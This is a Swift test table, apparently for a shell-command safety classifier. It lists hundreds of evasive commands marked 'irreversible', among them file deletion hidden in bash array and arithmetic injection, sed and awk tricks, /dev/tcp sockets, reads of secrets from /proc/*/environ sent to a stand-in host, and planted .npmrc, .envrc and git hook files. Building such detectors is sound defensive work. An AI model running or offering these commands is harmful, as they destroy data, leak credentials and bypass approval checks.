extension ShellTable {
    /// What a person found who tried to be taken for harmless.
    static let attacks = rows(
        #"""
        irreversible | ptx -G in README.md
        irreversible | ptx --traditional in README.md
        irreversible | bat cache --clear
        irreversible | lspci -Q
        irreversible | lspci -q
        irreversible | mount -a
        irreversible | mount -a -oremount,ro
        irreversible | mount --all --fstab=./fstab
        irreversible | mount -T./fstab -a
        irreversible | tput -Tevil init
        irreversible | apt-cache -o Dir::Cache::pkgcache=README.md show bash
        irreversible | apt list -o APT::Update::Pre-Invoke::=x
        irreversible | apt-cache gencaches
        irreversible | cloc --extract-with='touch x' x.tar
        irreversible | cloc --out=README.md .
        irreversible | cloc --write-lang-def=README.md
        irreversible | xxd -ul in README.md
        irreversible | xxd -pg in README.md
        irreversible | tree -Po x README.md
        irreversible | tree -Lo 1 README.md
        irreversible | diff3 --diff-program=./evil a b c
        irreversible | declare -a 'x=($(touch x))'
        irreversible | x=(); declare 'x=($(touch x))'
        irreversible | jobs -x touch x
        irreversible | jobs -x rm README.md
        irreversible | cat </dev/$(echo tcp)/127.0.0.1/80
        irreversible | x=$(echo tcp); cat </dev/$x/127.0.0.1/80
        irreversible | lz4 -l -f in README.md
        irreversible | systemctl status -H evil.host
        irreversible | systemctl list-units --host=evil.host
        irreversible | hostnamectl status -H evil.host
        irreversible | timedatectl status -H evil.host
        irreversible | loginctl list-sessions -H evil.host
        irreversible | kubectl get pods --kubeconfig=./k
        irreversible | kubectl config view --kubeconfig=./k
        irreversible | helm list --kubeconfig=./k
        irreversible | pip list --log=README.md
        irreversible | pip list --log README.md
        irreversible | pip --python=./evil list
        irreversible | pip list --python=./evil
        irreversible | pip show --python ./evil x
        irreversible | git rev-list --output=README.md HEAD
        irreversible | git shortlog --output=README.md HEAD
        irreversible | git bisect view --output=README.md
        irreversible | git revert --output=README.md HEAD
        irreversible | git help -w log
        irreversible | less --lesskey-content='#env;LESSOPEN=|touch x %s' f
        irreversible | info --dribble=README.md ls
        irreversible | sed 't;w README.md' in
        irreversible | sed ':a;e touch x' in
        irreversible | sed -n 'v;e touch x' in
        irreversible | sed 's/x/y/;ta;e touch x;:a' in
        irreversible | sed 's/[[:alpha:]/]/p;b ;touch x/e' in
        irreversible | awk 'BEGIN { print "a", ␤"b" > "README.md" }'
        irreversible | awk 'BEGIN { print "x" \␤ > "README.md" }'
        irreversible | awk 'BEGIN { print "x", # c␤ "y" > "README.md" }'
        irreversible | RANDOM='a[$(touch x)]'
        irreversible | LINENO='a[$(touch x)]'
        irreversible | SECONDS='a[$(touch x)]'
        irreversible | for RANDOM in 'a[$(touch x)]'; do :; done
        irreversible | read RANDOM <<< 'a[$(touch x)]'
        irreversible | : ${RANDOM:='a[$(touch x)]'}
        irreversible | exec 3<README.md; echo x > /dev/fd/3
        irreversible | echo x < README.md > /dev/fd/0
        irreversible | tee /dev/fd/0 < README.md
        irreversible | { echo x > /dev/stdout; } >> README.md
        irreversible | sort -o /dev/fd/0 < README.md
        irreversible | dd of=/dev/fd/0 < README.md
        irreversible | [[ -f <(touch ../x) ]]
        irreversible | git fetch . +refs/heads/a:refs/heads/main
        irreversible | git rev-parse --output=x
        irreversible | docker ps -H tcp://evil:1
        irreversible | npm ls --prefix ../x
        irreversible | cat /proc/1/environ
        irreversible | cat /proc/self/environ
        irreversible | [[ a == <(touch ../x) ]]
        irreversible | [[ a != >(touch ../x) ]]
        irreversible | [[ x =~ <(touch ../x) ]]
        irreversible | [[ ( -f <(touch ../x) ) ]]
        irreversible | [[ -f <(rm README.md) ]]
        irreversible | f() [[ -f <(touch ../x) ]]; f
        irreversible | SRANDOM='a[$(touch ../x)]'
        irreversible | EPOCHSECONDS='a[$(touch ../x)]'
        irreversible | BASHPID='a[$(touch ../x)]'
        irreversible | declare RANDOM='a[$(touch ../x)]'
        irreversible | RANDOM+='a[$(touch ../x)]'
        irreversible | printf -v RANDOM %s 'a[$(touch ../x)]'
        irreversible | {RANDOM}</dev/null ls
        irreversible | declare -A 'x=($(touch ../x))'
        irreversible | declare -a x='($(touch ../x))'
        irreversible | declare -a "x=(\$(touch ../x))"
        irreversible | declare -a x="(\`touch ../x\`)"
        irreversible | x=(1); y='($(touch ../x))'; declare x="$y"
        irreversible | f() { local -a 'x=($(touch ../x))'; }; f
        irreversible | typeset -a 'x=([$(touch ../x)0]=1)'
        irreversible | builtin jobs -x touch ../x
        irreversible | command jobs -x touch ../x
        irreversible | eval 'jobs -x touch ../x'
        irreversible | jobs -xtouch ../x
        irreversible | jobs -lx touch ../x
        irreversible | jobs % -x touch ../x
        irreversible | xargs diff3 < args
        irreversible | sed -n 'b x;w ../x␤:x' in
        irreversible | sed -n 'T;w ../x' in
        irreversible | sed 'v 4.2;e touch ../x' in
        irreversible | sed 'b;e touch ../no' in
        irreversible | sed 't x;e touch ../x;:x' in
        irreversible | sed 't;e touch ../x' in
        irreversible | sed ':a b;e touch ../x' in
        irreversible | awk 'BEGIN{print "a" &&␤"b" > "../x"}'
        irreversible | awk 'BEGIN{print (1 ||␤0) > "../x"}'
        irreversible | awk 'BEGIN{print a[1,␤2] > "../x"}'
        irreversible | awk 'BEGIN{printf "%s%s","a",␤"b" > "../x"}'
        irreversible | awk 'BEGIN{print "x" > "/dev/null" "/../../x"}'
        irreversible | awk 'BEGIN{print "x" > "/dev/stderr" "x"}'
        irreversible | cp -n in .npmrc
        irreversible | mv -n in .envrc
        irreversible | touch .gitattributes
        irreversible | git branch -u origin/main
        irreversible | git branch --set-upstream-to=origin/x
        irreversible | git cherry-pick --output=README.md HEAD
        irreversible | git fetch origin '+refs/heads/*:refs/heads/*'
        irreversible | git fetch --all --tags -u
        irreversible | git fetch --update-head-ok . HEAD:main
        irreversible | git fetch --set-upstream origin x
        irreversible | git mv in .git/x
        irreversible | git mv in .gitattributes
        irreversible | git mv a ../b
        irreversible | git rev-list --outp=README.md HEAD
        irreversible | git show-branch --output=x
        irreversible | git cherry --output=README.md
        irreversible | git shortlog --output README.md
        irreversible | git name-rev --output=README.md
        irreversible | git verify-commit --output=x HEAD
        irreversible | lz4 -l in
        irreversible | bzip2 -l a
        irreversible | xxd -ac in README.md
        irreversible | xxd -ps -r
        irreversible | xxd -uo in README.md
        irreversible | xxd -es in README.md
        irreversible | tree --output-file README.md
        irreversible | tree -LR 1
        irreversible | nm @args
        irreversible | objdump @args
        irreversible | readelf @args
        irreversible | size @args
        irreversible | diff3 --diff-prog ./evil a b c
        irreversible | mount -v -a
        irreversible | mount -F -a
        irreversible | apt-cache -c ./x show y
        irreversible | apt-cache --config-file=./x search y
        irreversible | apt-cache dumpavail
        irreversible | apt search -o Dir::Cache=/tmp/x y
        irreversible | pip freeze --log README.md
        irreversible | pip --log=README.md list
        irreversible | pip list --log-file README.md
        irreversible | pip check --python=./evil
        irreversible | npm ls --script-shell=./x
        irreversible | npm --prefix=x ls
        irreversible | npm ls --node-options='--require ./evil'
        irreversible | npm --globalconfig=./x ls
        irreversible | npm root --userconfig ./x
        irreversible | npm prefix --logs-dir=.
        irreversible | docker ps --host tcp://evil:1
        irreversible | docker inspect --config x y
        irreversible | kubectl get p --server=http://evil --token=x
        irreversible | kubectl describe p --as=x
        irreversible | kubectl logs x --kubeconfig ./k
        irreversible | systemctl show --host=evil x
        irreversible | systemctl list-units -M x
        irreversible | systemctl cat -H evil x
        irreversible | journalctl -M x
        irreversible | timedatectl show -H evil
        irreversible | localectl status -H evil
        irreversible | hostnamectl status --host evil
        irreversible | tee /dev/fd/9
        irreversible | echo x > /dev/fd/3
        irreversible | echo x >> /dev/fd/0 < README.md
        irreversible | cp -n in /dev/fd/0
        irreversible | [[ <(rm README.md) ]]
        irreversible | [[ ! -e <(rm README.md) ]]
        irreversible | [[ a < <(rm README.md) ]]
        irreversible | [[ a > <(rm README.md) ]]
        irreversible | [[ -f>(rm README.md) ]]
        irreversible | [[ (-f <(rm README.md)) || a ]]
        irreversible | [[ a =~ (<(rm README.md)) ]]
        irreversible | [[ a =~ x|<(rm README.md) ]]
        irreversible | [[ a == x<(rm README.md) ]]
        irreversible | [[ a == "$(rm README.md)" ]]
        irreversible | [[ a -nt <(rm README.md) ]]
        irreversible | if [[ -f <(rm README.md) ]]; then :; fi
        irreversible | f() { [[ -p <(rm README.md) ]]; }; f
        irreversible | f() [[ a != >(rm README.md) ]]; f
        irreversible | while [[ -z <(rm README.md) ]]; do :; done
        irreversible | case x in <(rm README.md)|x) :;; esac
        irreversible | case x in (<(rm README.md)) :;; esac
        irreversible | for i in a <(rm README.md); do :; done
        irreversible | x=(a <(rm README.md))
        irreversible | x+=(<(rm README.md))
        irreversible | jobs -lx rm README.md
        irreversible | jobs -nx rm README.md
        irreversible | command builtin jobs -x rm README.md
        irreversible | trap 'jobs -x rm README.md' EXIT
        irreversible | f() { jobs -x "$@"; }; f rm README.md
        irreversible | o=-x; jobs $o rm README.md
        irreversible | jobs "$o" rm README.md
        irreversible | jobs -{x,x} rm README.md
        irreversible | typeset -a "x=( \`rm README.md\` )"
        irreversible | declare -A x='([$(rm README.md)]=1)'
        irreversible | f() { local -A 'x=($(rm README.md))'; }; f
        irreversible | f() { local -a x; local 'x=($(rm README.md))'; }; f
        irreversible | declare -a x; declare 'x=($(rm README.md))'
        irreversible | read -ra x <<< a; declare "x=(\$(rm README.md))"
        irreversible | x[0]=1; declare 'x=($(rm README.md))'
        irreversible | x[0]=1; readonly 'x=($(rm README.md))'
        irreversible | : ${x[0]:=1}; declare 'x=($(rm README.md))'
        irreversible | v='($(rm README.md))'; declare -a x=$v
        irreversible | v='($(rm README.md))'; declare -a x="${v}"
        irreversible | declare -a x="$(printf '($(rm README.md))')"
        irreversible | declare -a x=\(\$\(rm\ README.md\)\)
        irreversible | eval "declare -a 'x=(\$(rm README.md))'"
        irreversible | command declare -a 'x=($(rm README.md))'
        irreversible | builtin typeset -a 'x=($(rm README.md))'
        irreversible | declare -ga 'x=($(rm README.md))'
        irreversible | declare -a -- 'x=($(rm README.md))'
        irreversible | declare -a 'x+=($(rm README.md))'
        irreversible | declare -a 'x[0]=$(rm README.md)'
        irreversible | declare -p; DIRSTACK=1; declare 'DIRSTACK=($(rm README.md))'
        irreversible | declare -x 'x=($(rm README.md))'
        irreversible | declare -r -a 'x=($(rm README.md))'
        irreversible | x=(); f() { declare -g 'x=($(rm README.md))'; }; f
        irreversible | RANDOM="a[\$(rm README.md)]"
        irreversible | v='a[$(rm README.md)]'; RANDOM=$v
        irreversible | SECONDS=x x='a[$(rm README.md)]'
        irreversible | x='a[$(rm README.md)]'; SECONDS=x
        irreversible | x='a[$(rm README.md)]'; RANDOM=x
        irreversible | x='a[$(rm README.md)]'; typeset SECONDS="x"
        irreversible | for SECONDS in 1 'a[$(rm README.md)]'; do :; done
        irreversible | for RANDOM; do :; done
        irreversible | read -r a RANDOM <<< '1 a[$(rm README.md)]'
        irreversible | IFS=, read -r SECONDS <<< 'a[$(rm README.md)]'
        irreversible | printf -v SECONDS '%s' 'a[$(rm README.md)]'
        irreversible | f() { local RANDOM='a[$(rm README.md)]'; }; f
        irreversible | f() { local SECONDS; SECONDS='a[$(rm README.md)]'; }; f
        irreversible | readonly RANDOM='a[$(rm README.md)]'
        irreversible | export SECONDS='a[$(rm README.md)]'
        irreversible | RANDOM[0]='a[$(rm README.md)]'
        irreversible | RANDOM=('a[$(rm README.md)]')
        irreversible | x='a[$(rm README.md)]'; : $((RANDOM=x))
        irreversible | OPTIND='a[$(rm README.md)]'; getopts a b
        irreversible | OPTERR='a[$(rm README.md)]'
        irreversible | LINES='a[$(rm README.md)]'; select x in 1; do break; done <<< 1
        irreversible | BASH_ARGV0='a[$(rm README.md)]'
        irreversible | declare -i RANDOM; RANDOM='a[$(rm README.md)]'
        irreversible | unset RANDOM; declare -i RANDOM; x='a[$(rm README.md)]'; RANDOM=x
        irreversible | cat </d$(echo ev)/tcp/127.0.0.1/80
        irreversible | t=$(echo tcp); exec 3</dev/$t/127.0.0.1/80
        irreversible | exec 3<>/dev/${t}/127.0.0.1/80
        irreversible | echo x > /dev/$(echo udp)/127.0.0.1/80
        irreversible | cat < /dev/{t..t}cp/127.0.0.1/80
        irreversible | cat < "/dev/tc$(echo p)/127.0.0.1/80"
        irreversible | cat < /dev/"tcp"/127.0.0.1/80
        irreversible | cat < //dev/tcp/127.0.0.1/80
        irreversible | read x < /$(echo dev/tcp/127.0.0.1/80)
        irreversible | while read x; do :; done < /dev/${q:-tcp}/127.0.0.1/80
        irreversible | sort -o /dev/stdin < README.md
        irreversible | dd if=README.md of=/dev/stdin
        irreversible | dd if=README.md of=/dev/fd/0
        irreversible | dd if=in of=/dev/stdout 1<>README.md
        irreversible | exec 3<README.md; tee /dev/fd/3 </dev/null
        irreversible | exec 1>>README.md; echo x > /dev/stdout
        irreversible | { tee /dev/stderr; } 2>>README.md <<< x
        irreversible | eval 'echo x > /dev/stdout' >> README.md
        irreversible | eval 'echo x > /dev/stdout' 1<README.md
        irreversible | bash -c 'echo x > /dev/stdout' >> README.md
        irreversible | f() { echo x > /dev/stdout; }; f >> README.md
        irreversible | (echo x > /dev/fd/1) >> README.md
        irreversible | echo x >> README.md > /dev/stdout
        irreversible | echo x > /dev/stdout 3<README.md 1>&3
        irreversible | find . -maxdepth 0 -fprint /dev/stdout >> README.md
        irreversible | curl -s -o /dev/stdout file:///etc/hostname >> README.md
        irreversible | git log --output=/dev/stdout >> README.md
        irreversible | sort -o/dev/stdout in >> README.md
        irreversible | tee -a in /dev/fd/3
        irreversible | tee /proc/self/fd/1 >> README.md < in
        irreversible | echo x > /proc/self/fd/0 < README.md
        irreversible | echo x > /dev/fd/../fd/0 < README.md
        irreversible | echo x > -
        irreversible | echo x | tee -
        irreversible | dd if=in of=-
        irreversible | cp -n in /dev/fd/0 < README.md
        irreversible | uniq in /dev/stdout
        irreversible | sed ':a;w README.md' in
        irreversible | sed ':a;s/x/y/;ta;w README.md' in
        irreversible | sed -e ':a' -e 'ta;w README.md' in
        irreversible | sed 'b;;w README.md' in
        irreversible | sed -n ':x p;e rm README.md' in
        irreversible | sed '{:a;w README.md␤}' in
        irreversible | sed 'v;w README.md' in
        irreversible | sed 'v 4.2 ;W README.md' in
        irreversible | sed 'ba}w README.md␤:a' in
        irreversible | sed '/x/ba;w README.md;:a' in
        irreversible | sed 's/[[.x.]/]/p;b ;rm README.md/e' in
        irreversible | sed 's/[[=x=]/]/p;b ;rm README.md/e' in
        irreversible | sed 's/[^[:alpha:]/]/p;b ;rm README.md/e' in
        irreversible | sed 's/[][:alpha:]/]/p;b ;rm README.md/e' in
        irreversible | sed 's/[\][]/A/;s,B]/rm README.md/e;s,D,' in
        irreversible | sed '/[[:alpha:]/]/e rm README.md' in
        irreversible | sed '\,[[:alpha:],],e rm README.md' in
        irreversible | sed 's/x/[/;e rm README.md' in
        irreversible | sed 'y/[/]/;e rm README.md' in
        irreversible | sed 's/a\/b/c/;e rm README.md' in
        irreversible | sed 's/[/]//;e rm README.md' in
        irreversible | awk 'BEGIN { print "a",␤ "b" >> "README.md" }'
        irreversible | awk 'BEGIN { print "a" ||␤ "b" > "README.md" }'
        irreversible | awk 'BEGIN { print 1 ?␤ 2 : 3 > "README.md" }'
        irreversible | awk 'BEGIN { print 1 ? 2 :␤ 3 > "README.md" }'
        irreversible | awk 'BEGIN { print "a", # x > y␤ # z␤ "b" > "README.md" }'
        irreversible | awk 'BEGIN { print "a" \␤ "b" \␤ > "README.md" }'
        irreversible | awk 'BEGIN { printf("%s",␤ "b") > "README.md" }'
        irreversible | awk 'BEGIN { print "x" >"/dev/null" "/../x" }'
        irreversible | awk '/[/]"/ {print "x" > "README.md"} #"' in
        irreversible | awk 'BEGIN{ x="README.md"; print 1 > x }'
        irreversible | awk 'BEGIN{ print 1 > ("README" ".md") }'
        irreversible | awk 'BEGIN{ getline x < ("/in" "et/tcp/0/127.0.0.1/80") }'
        irreversible | awk 'BEGIN{ print length() > "README.md" }'
        irreversible | awk '{ print /a/,␤ /b/ > "README.md" }' in
        irreversible | awk '{ print a[1,␤2] > "README.md" }' in
        irreversible | git rev-list --outpu=README.md HEAD
        irreversible | git shortlog --output README.md HEAD
        irreversible | git revert --output README.md HEAD
        irreversible | git show-branch --output=README.md
        irreversible | git ls-tree --output=README.md HEAD
        irreversible | git merge-base --output=README.md HEAD HEAD
        irreversible | git fetch origin '+a:b'
        irreversible | git fetch -q origin x +y
        irreversible | r=+a:b; git fetch origin $r
        irreversible | git fetch origin "$r"
        irreversible | git pull origin +a:b
        irreversible | git branch -uorigin/x
        irreversible | git branch --set-upstream-t=origin/x
        irreversible | git branch -qu origin/x
        irreversible | git help --web log
        irreversible | git help -aw log
        irreversible | git help -i log
        irreversible | diff3 --diff-p=./evil a b c
        irreversible | nm -C @args
        irreversible | nm -- @args
        irreversible | objdump -d ./@args @args
        irreversible | a=@args; size $a
        irreversible | size "$a"
        irreversible | pip --pyth=./evil list
        irreversible | pip3 list --python=./evil
        irreversible | pip list --lo=README.md
        irreversible | pip freeze --log-f=README.md
        irreversible | xxd -lu in README.md
        irreversible | xxd -cp in README.md
        irreversible | xxd -pl in README.md
        irreversible | xxd -- in README.md
        irreversible | xxd in - README.md
        irreversible | xxd -R always in README.md
        irreversible | xxd -l $x README.md
        irreversible | x="in README.md"; xxd $x
        irreversible | busybox xxd in README.md
        irreversible | lz4 -lf in README.md
        irreversible | lz4 -c in README.md
        irreversible | ptx -OG in README.md
        irreversible | ptx --trad in README.md
        irreversible | mount -av
        irreversible | mount --fst=x
        irreversible | mount -o remount
        irreversible | cloc --extract='rm README.md' x
        irreversible | cloc -out=README.md .
        irreversible | cloc -o README.md .
        irreversible | cloc --vcs='rm README.md' .
        irreversible | cloc --vcs 'rm README.md'
        irreversible | cloc --report-file=README.md .
        irreversible | cloc --sql=README.md .
        irreversible | cloc --config=x .
        irreversible | tree -Ioo x README.md
        irreversible | tree -PLo x 1 README.md
        irreversible | tree -aLo 1 README.md
        irreversible | tree -L1o README.md
        irreversible | tree --out=README.md
        irreversible | info --drib README.md ls
        irreversible | less --lesskey-con='#env' f
        irreversible | less --LOG-FILE=README.md f
        irreversible | apt-cache -oDir::x=y show bash
        irreversible | apt-cache show -o Dir::x=y bash
        irreversible | apt-cache --option=Dir::x=y show bash
        irreversible | apt search --config-file=x y
        irreversible | apt list -oAPT::x=y
        irreversible | bat cache --build
        irreversible | bat -p cache --clear
        irreversible | tput -T evil init
        irreversible | tput -xT evil
        irreversible | systemctl -Hevil status
        irreversible | systemctl status --host=evil
        irreversible | systemctl status -lH evil x
        irreversible | systemctl cat --mach=x y
        irreversible | hostnamectl --host=evil
        irreversible | loginctl list-users -Hevil
        irreversible | networkctl list -H evil
        irreversible | kubectl get pods --kubeconf=./k
        irreversible | kubectl rollout status x --kubeconfig ./k
        irreversible | kubectl config get-contexts --kubeconfig=./k
        irreversible | kubectl get pods -shttp://evil
        irreversible | oc get pods --server http://evil
        irreversible | helm status x --kubeconfig ./k
        irreversible | helm list --kube-apiserver=http://evil
        irreversible | lspci -vQ
        irreversible | npm ls --node-opt=x
        irreversible | npm ls --script-shell ./evil
        irreversible | npm --node-options='-r ./evil' ls
        irreversible | npm list --userconfig=x
        irreversible | cp -n x sub/.npmrc
        irreversible | cp -n a/.envrc .
        irreversible | cp -rn a/. .
        irreversible | cp -n x "$PWD/.envrc"
        irreversible | n=.envrc; cp -n x $n
        irreversible | mv -n x .bashrc
        irreversible | mv -n sub/.envrc .
        irreversible | touch .envrc
        irreversible | touch -t 01010000 a/.npmrc
        irreversible | ln -s x .envrc
        irreversible | ln -sv x sub/.npmrc
        irreversible | git mv x .envrc
        irreversible | cp -n x .{npm,env}rc
        irreversible | cp -n x .github/workflows/x.yml
        irreversible | wget http://x/.npmrc
        irreversible | cat /proc/*/environ
        irreversible | cat /proc/[0-9]*/environ
        irreversible | cat /proc/$PPID/environ
        irreversible | cat /proc/self/../1/environ
        irreversible | cat /proc/1/env*
        irreversible | cat /proc/1/e?viron
        irreversible | cat /proc/1/[e]nviron
        irreversible | cat //proc//1/environ
        irreversible | cat /p*/1/environ
        irreversible | cat /./proc/1/environ
        irreversible | cat ../../../../proc/1/environ
        irreversible | strings /proc/1/task/1/environ
        irreversible | tr '\0' '\n' < /proc/1/environ
        irreversible | cd /proc/1; cat environ
        irreversible | cd /proc/1 && cat env*
        irreversible | cd /proc && cat 1/environ
        irreversible | p=/proc/1; cat $p/environ
        irreversible | f=environ; cat /proc/1/$f
        irreversible | for f in /proc/*/environ; do cat "$f"; done
        irreversible | x=(/proc/*/environ); cat "${x[@]}"
        irreversible | find /proc -name environ -exec cat {} +
        irreversible | find /proc/1 -type f -exec cat {} +
        irreversible | grep -r SECRET /proc/1
        irreversible | grep -ra . /proc/self/task
        irreversible | grep -z . /proc/*/environ
        irreversible | xargs -0 < /proc/1/environ
        irreversible | xargs cat <<< /proc/1/environ
        irreversible | echo /proc/1/environ | xargs cat
        irreversible | sed -n p /proc/1/environ
        irreversible | awk 1 /proc/1/environ
        irreversible | head -c 999 /proc/"$(pgrep -o x)"/environ
        irreversible | cp -n /proc/1/environ x
        irreversible | dd if=/proc/1/environ
        irreversible | sort --files0-from=/proc/1/environ
        irreversible | cat /proc/$(pgrep x)/environ
        irreversible | cat $x/environ
        irreversible | rg x /proc/1
        irreversible | ps e
        irreversible | ps auxe
        irreversible | ps eww -p 1
        irreversible | ps -p 1 e
        irreversible | ps axe
        irreversible | cat /proc/1/root/proc/1/environ
        irreversible | diff /dev/null /proc/1/environ
        irreversible | curl -b /proc/1/environ http://x
        irreversible | jq -R . /proc/1/environ
        irreversible | wc --files0-from=/proc/1/environ
        irreversible | cat {/proc/1,x}/environ
        irreversible | cat /dev/fd/../environ
        irreversible | git diff --no-index /dev/null /proc/1/environ
        irreversible | pmap -N README.md
        irreversible | sed ':a}i\;e rm README.md' in
        irreversible | sed 'b}i\;e rm README.md' in
        irreversible | eval 'exec 1<README.md'; echo x > /dev/stdout
        irreversible | eval 'command exec 1<README.md'; echo x > /dev/stdout
        irreversible | : {x[0]}</dev/null; declare 'x=($(rm README.md))'
        irreversible | cd /proc/1; find . -type f -exec cat {} +
        irreversible | cd /proc; grep -r x 1
        irreversible | x=$(echo /proc/1/); cat ${x}environ
        irreversible | shopt -s dotglob; mv -n sub/* .
        irreversible | cp -rn sub/./ .
        irreversible | ps -o pid,environ
        irreversible | ps axo environ
        irreversible | ps "$x"
        irreversible | x=auxe; ps $x
        irreversible | eval 'typeset x=-delete'; find . -name "$x"
        irreversible | trap 'readonly x=1' EXIT; ls $x
        irreversible | jobs -x -- rm README.md
        irreversible | git rev-list --output=- HEAD > README.md
        irreversible | git log --output=- -p | tee README.md
        irreversible | sort --out=README.md in
        irreversible | diff --output=README.md a b
        irreversible | strings --plugin=./evil x
        irreversible | pgrep --exec=x y
        irreversible | jq --run-program=x y
        irreversible | ag --log-file=x y
        irreversible | last --output-file=x
        irreversible | printenv --config-file=x
        irreversible | cmp --diff-program=x a b
        irreversible | fold --pager=./evil x
        irreversible | wc --script-file=x
        irreversible | hexdump --log=x y
        irreversible | who --exec=x
        irreversible | [[ x ]] && [[ -s <(rm README.md) ]]
        irreversible | [[ -f x || -f <(rm README.md) ]]
        irreversible | [[ "${x:-<(rm README.md)}" ]]
        irreversible | x[<(rm README.md)]=1
        irreversible | echo ${x:-<(rm README.md)}
        irreversible | f() case <(rm README.md) in *) ;; esac
        irreversible | for ((i=0;i<1;i++)); do [[ -f <(rm README.md) ]]; done
        irreversible | select x in <(rm README.md); do :; done
        irreversible | [ -f <(rm README.md) ]
        irreversible | test <(rm README.md)
        irreversible | cat <<< <(rm README.md)
        irreversible | ! [[ -f <(rm README.md) ]]
        irreversible | time [[ -f <(rm README.md) ]]
        irreversible | coproc [[ -f <(rm README.md) ]]
        irreversible | f() { local x=(); local 'x=($(rm README.md))'; }; f
        irreversible | mapfile x < f; declare 'x=($(rm README.md))'
        irreversible | PIPESTATUS=1; declare 'PIPESTATUS=($(rm README.md))'
        irreversible | declare 'BASH_ALIASES=($(rm README.md))'
        irreversible | declare 'COMP_WORDS=($(rm README.md))'
        irreversible | declare 'BASH_ARGV=($(rm README.md))'
        irreversible | declare 'MAPFILE=($(rm README.md))'
        irreversible | declare 'BASH_REMATCH=($(rm README.md))'
        irreversible | echo ${x[0]=1}; declare 'x=($(rm README.md))'
        irreversible | read 'x[0]' <<< a; declare 'x=($(rm README.md))'
        irreversible | eval 'x=()'; declare 'x=($(rm README.md))'
        irreversible | trap 'x=()' DEBUG; declare 'x=($(rm README.md))'
        irreversible | x=1; x+=(2); declare x="$(echo '($(rm README.md))')"
        irreversible | export -a 'x=($(rm README.md))'
        irreversible | f=-a; declare $f 'x=($(rm README.md))'
        irreversible | declare "-a" "x=(\$(rm README.md))"
        irreversible | declare -{a,r} 'x=($(rm README.md))'
        irreversible | declare -l -a 'x=($(rm README.md))'
        irreversible | BASHPID=x
        irreversible | EPOCHREALTIME='a[$(rm README.md)]'
        irreversible | : ${SECONDS='a[$(rm README.md)]'}
        irreversible | unset SECONDS; : ${SECONDS:='a[$(rm README.md)]'}
        irreversible | env SECONDS='a[$(rm README.md)]' ls
        irreversible | RANDOM=$(echo 'a[$(rm README.md)]')
        irreversible | RANDOM="$1"
        irreversible | RANDOM=$x
        irreversible | while read RANDOM; do :; done < f
        irreversible | eval "RANDOM='a[\$(rm README.md)]'"
        irreversible | f() { SECONDS=$1; }; f 'a[$(rm README.md)]'
        irreversible | let RANDOM='a[$(rm README.md)]'
        irreversible | ((RANDOM=a[$(rm README.md)]))
        irreversible | x='a[$(rm README.md)]'; ((RANDOM+=x))
        irreversible | getopts a RANDOM
        irreversible | exec {SECONDS}</dev/null
        irreversible | echo x 3<README.md >/dev/fd/3
        irreversible | echo x 0<README.md >/dev/stdin
        irreversible | cat /dev/null 1<>README.md > /dev/stdout
        irreversible | exec {v}<README.md; echo x > /dev/fd/$v
        irreversible | exec <README.md; tee /dev/stdin < /dev/null
        irreversible | while :; do echo x > /dev/stdin; done < README.md
        irreversible | if :; then echo > /dev/fd/1; fi >> README.md
        irreversible | case a in a) echo > /dev/stdout;; esac >> README.md
        irreversible | awk 1 in > /dev/stdout 2>> README.md
        irreversible | cp in /dev/stdout >> README.md
        irreversible | cp -n in /dev/fd/4
        irreversible | sort -o /dev/fd/3 in 3<README.md
        irreversible | xxd in /dev/stdout
        irreversible | iconv -o /dev/stdout in >> README.md
        irreversible | curl -o /dev/fd/3 https://x
        irreversible | shuf -o /dev/stderr in 2>> README.md
        irreversible | git archive -o /dev/stdout HEAD >> README.md
        irreversible | find . -fls /dev/stderr 2>>README.md
        irreversible | echo > /dev/fd/01 >> README.md
        irreversible | echo x > /dev/fd/00
        irreversible | dd of=/dev/stderr < in 2>>README.md
        irreversible | xargs -a README.md tee /dev/stdin
        irreversible | sed ':a;;e rm README.md' in
        irreversible | sed 't a;e rm README.md␤:a' in
        irreversible | sed 'T a ;w README.md' in
        irreversible | sed '1!{b;e rm README.md␤}' in
        irreversible | sed '$!ba;e rm README.md;:a' in
        irreversible | sed -e 'v' -e 'e rm README.md' in
        irreversible | sed -n 'v 4;/x/{w README.md␤}' in
        irreversible | sed 's/[[:digit:][:alpha:]/]/p;b ;rm README.md/e' in
        irreversible | sed 's#[[:alpha:]#]#p;b ;rm README.md#e' in
        irreversible | sed 's/[a[:alpha:]/]/p;b ;rm README.md/e' in
        irreversible | sed 's/[^][:alpha:]/]/p;b ;rm README.md/e' in
        irreversible | sed '/[[:alpha:]]/e rm README.md' in
        irreversible | sed '\|[[:alpha:]|]|w README.md' in
        irreversible | sed 'y/abc/\/;w/;w README.md' in
        irreversible | sed 's/\[/x/;w README.md' in
        irreversible | awk 'BEGIN { print "a" ,␤␤"b" > "README.md" }'
        irreversible | awk 'BEGIN { print "a" , # "␤"b" > "README.md" }'
        irreversible | awk 'BEGIN { print a[1 ,␤2] , 3 > "README.md" }'
        irreversible | awk 'BEGIN { print ! \␤1 > "README.md" }'
        irreversible | awk 'BEGIN { print 1 \␤ , 2 >> "README.md" }'
        irreversible | awk 'BEGIN { printf "x" > "/dev/stderr" ".txt" }'
        irreversible | awk 'BEGIN { printf "x" > "/dev/null/../README.md" }'
        irreversible | awk '/[[:alpha:]/]"/ {print "x" > "README.md"} #"' in
        irreversible | awk 'BEGIN { while ((getline l < f) > 0) print l }' f=/inet/tcp/0/h/80
        irreversible | awk 1 f=x /inet/tcp/0/h/80
        irreversible | awk 'BEGIN{ ARGV[1]="/in" "et/tcp/0/h/80"; ARGC=2 } 1'
        irreversible | git rev-list --output "$x" HEAD
        irreversible | git cherry-pick --outpu README.md x
        irreversible | git whatchanged --output=README.md
        irreversible | git stash list --outp README.md
        irreversible | git fetch origin main:main +x
        irreversible | git fetch origin '+refs/*:refs/*'
        irreversible | git fetch --upd . HEAD:main
        irreversible | git fetch --stdin origin < f
        irreversible | git branch topic -u origin/x
        irreversible | git branch --track -f main x
        irreversible | systemctl --no-pager status -H evil
        irreversible | systemctl show -M x
        irreversible | timedatectl show --host evil
        irreversible | localectl -H evil status
        irreversible | docker ps --host=tcp://evil
        irreversible | docker compose ps --host tcp://evil
        irreversible | docker image ls -H tcp://evil
        irreversible | kubectl api-versions -s http://evil
        irreversible | kubectl auth can-i --as=root get pods
        irreversible | helm get x --post-renderer=./evil
        irreversible | pip show --log=README.md x
        irreversible | pip list --keyring-provider=subprocess
        irreversible | apt policy -oA::B=c
        irreversible | apt-cache -p README.md policy
        irreversible | npm root --node-options=x
        irreversible | npm prefix --cache=x
        irreversible | mv -n x a/.npmrc
        irreversible | cp -n x y .git/hooks
        irreversible | cp -n .envrc sub
        irreversible | mv -n sub/{.envrc,x} .
        irreversible | touch a .envrc
